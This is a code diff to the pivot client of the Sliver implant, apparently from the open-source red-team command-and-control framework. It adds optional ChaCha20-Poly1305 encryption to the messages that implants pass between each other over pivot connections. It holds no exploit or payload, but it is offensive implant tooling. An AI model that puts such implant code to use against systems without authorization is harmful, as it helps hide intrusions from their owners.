@@ -37,6 +37,7 @@ import (
 	"github.com/bishopfox/sliver/implant/sliver/pivots"
 	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
 	"github.com/gofrs/uuid"
+	"golang.org/x/crypto/chacha20poly1305"
 	"google.golang.org/protobuf/proto"
 )
 
@@ -51,6 +52,7 @@ type NetConnPivotClient struct {
 
 	readDeadline  time.Duration
 	writeDeadline time.Duration
+	listenerKey   *[chacha20poly1305.KeySize]byte
 }
 
 // KeyExchange - Perform the key exchange with peer and then the upstream server
@@ -205,6 +207,13 @@ func (p *NetConnPivotClient) serverKeyExchange() error {
 func (p *NetConnPivotClient) write(message []byte) error {
 	p.writeMutex.Lock()
 	defer p.writeMutex.Unlock()
+	if p.listenerKey != nil {
+		var err error
+		message, err = cryptography.Encrypt(*p.listenerKey, message)
+		if err != nil {
+			return err
+		}
+	}
 	n, err := p.conn.Write(p.lengthOf(message))
 	if err != nil {
 		// {{if .Config.Debug}}
@@ -265,6 +274,9 @@ func (p *NetConnPivotClient) read() ([]byte, error) {
 		// {{end}}
 		return nil, err
 	}
+	if p.listenerKey != nil {
+		return cryptography.Decrypt(*p.listenerKey, dataBuf)
+	}
 	return dataBuf, err
 }
 